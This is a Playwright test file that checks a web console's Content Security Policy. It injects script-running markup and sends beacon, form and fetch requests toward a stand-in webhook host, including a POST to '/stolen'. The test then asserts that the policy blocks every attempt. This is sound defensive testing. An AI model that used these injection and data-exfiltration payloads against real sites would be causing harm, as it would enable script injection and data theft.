import type { ApiClient } from "../support/api-client";
import { expect, openConsole, test } from "../support/console-test";

/** Stores a script as a file of type text/javascript; gives where its bytes are read. */
async function storedScript(api: ApiClient): Promise<string> {
  const { workspace_id } = (await api.post("/v1/workspaces", { name: "scripts" })).as("Workspace");
  const stored = await api.post(`/v1/workspaces/${workspace_id}/files`, undefined, {
    raw: "(parent.ran ??= []).push('file')",
    query: { path: "script.js" },
    headers: { "content-type": "text/javascript" },
  });
  return `/v1/workspaces/${workspace_id}/files/${stored.as("WorkspaceFile").file_id}/content`;
}

declare global {
  interface Window {
    ran?: string[];
  }
}

test("markup in a page runs, loads and sends nothing, whatever lies among the files", async ({
  page,
  newAccount,
  pageProblems,
  serviceUrl,
  webhookUrl,
}) => {
  const account = await newAccount();
  const script = `/api/console${await storedScript(account.api)}`;
  await openConsole(page, account, "/agents");
  expect(pageProblems.unexpected()).toEqual([]);
  await page.evaluate(
    ({ elsewhere, script }) => {
      const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
      add(`<img src="data:," onerror="(window.ran ??= []).push('handler')">`);
      add(`<iframe srcdoc="<script>(parent.ran ??= []).push('frame')</script>"></iframe>`);
      add(`<style>body { display: none }</style>`);
      add(`<img src="${elsewhere}/pixel">`);
      add(`<object data="${elsewhere}/object"></object>`);
      add(`<base href="${elsewhere}/">`);
      add(`<form action="${elsewhere}/taken" method="post"><button id="give">Give</button></form>`);
      add(`<a id="go" href="javascript:(window.ran ??= []).push('address')">Go</a>`);
      // Read by the parser, as the markup of a page is; the frame has the policy of this page.
      add(`<iframe srcdoc="<script src='${script}'></script>"></iframe>`);
      document.getElementById("give")?.click();
      document.getElementById("go")?.click();
      void fetch(`${elsewhere}/stolen`, {
        method: "POST",
        mode: "no-cors",
        body: "all of it",
      }).catch(() => undefined);
    },
    { elsewhere: webhookUrl, script },
  );
  const stopped = () =>
    pageProblems
      .unexpected()
      .map((problem) => /^policy: (\S+ stopped \S+)/.exec(problem)?.[1] ?? "");
  const expected = [
    "script-src-attr stopped inline",
    "script-src-elem stopped inline",
    `script-src-elem stopped ${serviceUrl}${script}`,
    "style-src-elem stopped inline",
    `img-src stopped ${webhookUrl}/pixel`,
    `object-src stopped ${webhookUrl}`,
    `base-uri stopped ${webhookUrl}/`,
    `form-action stopped ${webhookUrl}/taken`,
    `connect-src stopped ${webhookUrl}/stolen`,
  ];
  await expect.poll(stopped).toEqual(expect.arrayContaining(expected));
  expect(await page.evaluate(() => window.ran ?? [])).toEqual([]);
  // Asked of the page itself: Playwright goes on waiting for the navigation that the policy has
  // stopped.
  expect(
    await page.evaluate(() => [
      document.querySelector("h1")?.textContent,
      window.location.pathname,
    ]),
  ).toEqual(["Agents", "/agents"]);
  pageProblems.allow(/./);
});
